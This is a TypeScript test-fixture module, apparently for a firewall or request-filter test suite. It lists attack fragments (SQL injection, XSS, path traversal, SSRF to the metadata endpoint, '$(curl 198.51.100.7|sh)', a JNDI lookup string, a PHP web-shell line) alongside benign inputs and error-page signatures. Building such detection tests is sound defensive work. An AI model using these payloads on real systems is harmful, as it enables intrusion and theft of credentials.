/** Words that generated requests are put together from: attacks of each class, and what honest clients send. */

const lines = (text: string): readonly string[] =>
  text.split('\n').filter((line) => line.trim() !== '');

/** One fragment a line; none of them needs to work, each has something that rules look for. */
export const ATTACKS: readonly string[] = lines(String.raw`
' or 1=1 -- 
1' and '1'='1
") or ("a"="a
union all select null,version(),user() from dual
1;drop table accounts;--
'||(select password from staff limit 1)||'
sleep(9)
benchmark(9000000,md5(1))
waitfor delay '0:0:9'
admin'/*
/*!50000select*/ 1
0x61646d696e
having 1=1 order by 9
information_schema.tables
load_file('/etc/passwd')
into outfile '/tmp/x'
xp_cmdshell('dir')
{"$ne":null}
[$gt]
<script>alert(document.cookie)</script>
<img src=x onerror=prompt(1)>
<svg/onload=confirm(1)>
javascript:eval(name)
"><iframe srcdoc=x>
<a href="vbscript:msgbox(1)">
expression(alert(1))
style=behavior:url(x)
data:text/html;base64,PHNjcmlwdD4=
String.fromCharCode(88,83,83)
window['location']
<!--#exec cmd="id" -->
../../../../etc/shadow
..\..\windows\win.ini
....//....//etc/hosts
/proc/self/environ
.htaccess
.git/config
wp-config.php.bak
php://filter/convert.base64-encode/resource=index
file:///etc/passwd
http://198.51.100.7/shell.txt?
ftp://198.51.100.7/a.php
http://169.254.169.254/latest/meta-data/
gopher://127.0.0.1:6379/_
;cat /etc/passwd
|id
&& whoami
$(curl 198.51.100.7|sh)
\`uname -a\`
;/bin/b?sh -c 'ls -la'
c'a't /e*/p*d
powershell -enc SQBFAFgA
cmd.exe /c dir c:\
() { :;}; echo vulnerable
\${jndi:ldap://198.51.100.7/a}
\${\${lower:j}ndi:rmi://x}
{{7*7}}
<%= 7*7 %>
#{7*7}
__import__('os').system('id')
require('child_process').exec('id')
process.env
constructor.prototype
__proto__[x]=1
<?php system($_GET[1]); ?>
phpinfo()
base64_decode(
O:8:"stdClass":1:{s:1:"a";i:1;}
$_SERVER['HTTP_HOST']
preg_replace('/x/e','')
java.lang.Runtime
getRuntime().exec(
rO0ABXNyABFqYXZh
ProcessBuilder
ognl.OgnlContext
class.module.classLoader
Content-Length: 0
HTTP/1.1 200 OK
Set-Cookie: a=b
Transfer-Encoding: chunked
bcc:a@example.com
MAIL FROM:<a@example.com>
(objectClass=*)
*)(uid=*))(|(uid=*
PHPSESSID=1
jsessionid=9
bytes=1-2,3-4,5-6,7-8,9-10,11-12,13-14
sqlmap/1.7
nikto
Mozilla/4.0 (compatible; masscan)
application/x-evil
`);

export const BENIGN: readonly string[] = lines(`
hello
a longer sentence, with a comma and a full stop.
O'Brien
42
-1
3.14
1,000
true
null
user@example.org
https://www.example.org/path?x=1&y=2
2026-11-21T10:00:00Z
6f1e1a52-0b6c-4c39-9d54-0b3d57b0c9b1
+49 30 1234567
50% off & more
select a colour
drop me a line
the script of the play
C++ and C#
x
`);

export const NAMES: readonly string[] = lines(`
id
q
name
user
page
file
url
redirect
json
_method
__proto__
constructor
toString
a[b]
a.b
x-y
session_id
`);

export const HEADER_NAMES: readonly string[] = lines(`
Accept-Language
Referer
Origin
X-Forwarded-For
X-Requested-With
Range
Content-Encoding
Cache-Control
Authorization
X-Filename
X_Filename
Proxy-Connection
If-Modified-Since
Accept-Charset
constructor
`);

/** Pieces of pages that give something away, and of pages that do not. */
export const PAGES: readonly string[] = lines(`
<html><title>Welcome</title><p>Nothing to see.
{"ok":true}
You have an error in your SQL syntax; check the manual
ORA-00942: table or view does not exist
SQLSTATE[42000]: Syntax error
<b>Warning</b>: mysql_fetch_array() expects parameter 1
java.lang.NullPointerException at com.example.Main
<?php echo 1;
<% Response.Write("x") %>
Microsoft OLE DB Provider for SQL Server error
<title>Index of /backup</title>
Server Error in '/' Application.
c99shell
-----BEGIN RSA PRIVATE KEY-----
#!/usr/bin/perl
undefined method 'x' for nil:NilClass
`);
